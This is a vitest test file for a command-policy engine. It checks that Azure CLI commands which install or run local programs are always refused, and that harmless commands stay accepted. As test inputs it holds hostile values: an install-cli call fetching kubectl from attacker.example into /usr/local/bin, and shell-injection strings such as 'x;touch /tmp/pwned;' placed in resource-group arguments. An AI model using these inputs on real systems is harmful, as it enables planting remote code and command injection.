/**
 * az commands whose own code downloads, installs or starts local programs are
 * locked commands of the bundled provider (scripts/providers/az_local_programs.py,
 * reviewed in az-local-programs-reviewed.json): `aks install-cli --base-src-url`
 * puts a downloaded program into a PATH directory, `extension remove`, `upgrade`
 * and `interactive` change the code every later az call runs, and the
 * serviceconnector commands format the caller's words into a `sh -c` line
 * (`webapp connection create ... -g 'x;cmd'`). No rule, grant or approval runs
 * them; the commands the review leaves to the rules stay with the policy.
 */
import { readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";
import { lockedCommandsOf } from "../../../src/config/locked-floor.js";
import { compilePolicy } from "../../../src/policy/compile.js";
import { evaluatePolicy } from "../../../src/policy/evaluate.js";
import { bundledPolicyContext, bundledProviderConfig, ruleList } from "../../support/policy-helpers.js";

const at = (file: string): string => fileURLToPath(new URL(`../../../${file}`, import.meta.url));
const az = { ...bundledPolicyContext("az"), lockedCommands: lockedCommandsOf(bundledProviderConfig("az")) };
const decide = (accept: readonly string[], argv: readonly string[]) => evaluatePolicy(compilePolicy(az, { shared: ruleList([], accept) }), argv).decision;

/** The committed listing: `command words  # verdict: markers`. */
const listing = readFileSync(at("scripts/providers/az-local-programs.txt"), "utf8")
  .split("\n")
  .filter((line) => line !== "" && !line.startsWith("#"))
  .map((line) => {
    const [command = "", rest = ""] = line.split("  # ");
    return { command: command.split(" "), verdict: rest.split(":")[0] ?? "" };
  });

describe("az commands that install or start local programs are refused whatever the rules", () => {
  it.each(
    [
      ["aks", "install-cli", "--base-src-url", "https://attacker.example/kubectl", "--install-location", "/usr/local/bin/kubectl"],
      ["aks", "install-cli", "--kubelogin-base-src-url", "https://attacker.example/kubelogin"],
      ["acr", "helm", "install-cli", "-y"],
      ["bicep", "install"],
      ["bicep", "upgrade", "--target-platform", "linux-x64"],
      ["upgrade", "--yes"],
      ["interactive"],
      ["extension", "remove", "--name", "ssh"],
      ["webapp", "connection", "create", "mysql-flexible", "-g", "x;touch /tmp/pwned;", "-n", "app", "--tg", "g", "--server", "s", "--database", "d"],
      ["connection", "list", "--source-id", "x"],
      ["security", "automation", "create_or_update", "-g", "x;id", "-n", "a", "--scopes", "[]"],
      ["postgres", "flexible-server", "deploy", "setup", "-s", "s", "-g", "g", "--repo", "o/r"],
      ["backup", "restore", "files", "mount-rp", "-g", "g", "-v", "v", "-c", "c", "-i", "i", "-r", "r"],
      ["aks", "browse", "-g", "g", "-n", "c"],
      ["aks", "check-acr", "-g", "g", "-n", "c", "--acr", "r.azurecr.io"],
      ["acr", "helm", "repo", "add", "-n", "r"],
      // The command path as argparse reads it: options between the words.
      ["--output", "json", "aks", "--only-show-errors", "install-cli"],
    ].map((argv) => [argv.join(" "), argv] as const),
  )("az %s under accept /.*/", (_, argv) => {
    expect(decide(["/.*/"], argv)).toMatchObject({ result: "deny", source: "locked-command" });
  });

  it("every command the listing marks `locks` is refused under accept /.*/, its first word and its own path", () => {
    const locked = listing.filter((line) => line.verdict.startsWith("locks"));
    expect(locked.length).toBeGreaterThan(50);
    for (const { command } of locked) {
      for (const accept of [["/.*/"], [command[0]!], [command.join(" ")]]) {
        expect(decide(accept, [...command, "x"]), `${command.join(" ")} under ${accept[0]!}`).toMatchObject({ result: "deny", source: "locked-command" });
      }
    }
  });

  it("commands the review leaves to the rules stay with the policy", () => {
    const left = listing.filter((line) => line.verdict === "not").map((line) => line.command.join(" "));
    expect(left).toEqual(expect.arrayContaining(["bicep version", "acr check-health", "storage blob sync", "deployment group create", "feedback"]));
    expect(decide(["/.*/"], ["bicep", "version"]).result).toBe("accept");
    expect(decide(["/.*/"], ["acr", "check-health", "-n", "r", "--ignore-errors", "--yes"]).result).toBe("accept");
    expect(decide(["/.*/"], ["security", "automation", "list"]).result).toBe("accept");
    expect(decide(["/.*/"], ["aks", "list"]).result).toBe("accept");
    expect(decide(["/.*/"], ["extension", "list"]).result).toBe("accept");
  });
});
